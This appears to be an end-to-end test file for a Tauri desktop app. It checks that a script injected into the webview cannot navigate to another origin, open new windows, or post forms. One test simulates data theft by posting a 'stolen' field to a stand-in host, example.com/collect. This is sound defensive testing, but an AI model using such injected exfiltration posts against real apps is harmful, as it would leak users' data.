// The webview is not trusted: a script that got into the page (a WebKit bug, an injected
// script) must not take the user or the IPC to another origin. The shell refuses every
// navigation away from the app's own page (on_navigation) and every new window
// (on_new_window), and the CSP's form-action 'none' stops form posts. Each attempt below runs
// in the page as such a script would; the app must still be on its own page afterwards, with
// no window more than it had (its own and the prepared quick box), and its commands answering.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';

import { startApp, until } from './support.mjs';

/** @type {WebdriverIO.Browser} */
let browser;
let home = '';
/** The app's windows at the start: the main window and the quick box, kept prepared. */
let windows = [];

before(async () => {
  browser = await startApp();
  await browser.$('#view-list').waitForDisplayed();
  home = await browser.getUrl();
  // The box is prepared once the list's first codes are painted.
  windows = await until(async () => {
    const handles = await browser.getWindowHandles();
    return handles.length === 2 && handles.sort();
  }, 'the main window and the prepared quick box');
  assert.match(home, /^(tauri:\/\/localhost|https?:\/\/tauri\.localhost)(\/|$)/);
});

after(async () => {
  await browser?.deleteSession();
});

/** Gives a navigation the page started the time to happen (or to be refused). */
const settle = () => new Promise((resolve) => { setTimeout(resolve, 1500); });

/** The app is still on its own page, with no new window, and the shell still answers it. */
async function stillHome(what) {
  assert.equal(await browser.getUrl(), home, `${what}: the page's address`);
  assert.deepEqual((await browser.getWindowHandles()).sort(), windows, `${what}: no new window`);
  assert.ok(await browser.$('#view-list').isExisting(), `${what}: the app's page`);
  const answered = await browser.execute(async () => {
    try {
      await window.__TAURI_INTERNALS__.invoke('get_settings', {});
      return true;
    } catch {
      return false;
    }
  });
  assert.ok(answered, `${what}: the shell answers the page`);
}

test('a script cannot navigate the window to another origin', async () => {
  await browser.execute(() => { window.location.href = 'https://example.com/login'; });
  await settle();
  await stillHome('location.href');
  await browser.execute(() => { window.location.replace('http://127.0.0.1:9/'); });
  await settle();
  await stillHome('location.replace');
});

test('a script cannot open a new window', async () => {
  const opened = await browser.execute(() => {
    const other = window.open('https://example.com/', '_blank');
    return other === null ? 'null' : 'a window';
  });
  await settle();
  assert.equal(opened, 'null', 'window.open is refused');
  await stillHome('window.open');
});

test('a script cannot post a form anywhere', async () => {
  const blocked = await browser.execute(() => new Promise((resolve) => {
    document.addEventListener('securitypolicyviolation', (event) => {
      resolve(event.violatedDirective);
    }, { once: true });
    const form = document.createElement('form');
    form.method = 'post';
    form.action = 'https://example.com/collect';
    const field = document.createElement('input');
    field.name = 'stolen';
    field.value = 'secret';
    form.append(field);
    document.body.append(form);
    form.submit();
    setTimeout(() => resolve('no violation reported'), 1000);
  }));
  assert.equal(blocked, 'form-action', 'the CSP refused the post');
  await settle();
  await stillHome('form post');
  await until(async () => (await browser.$('#view-list').isDisplayed()), 'the list shown');
});
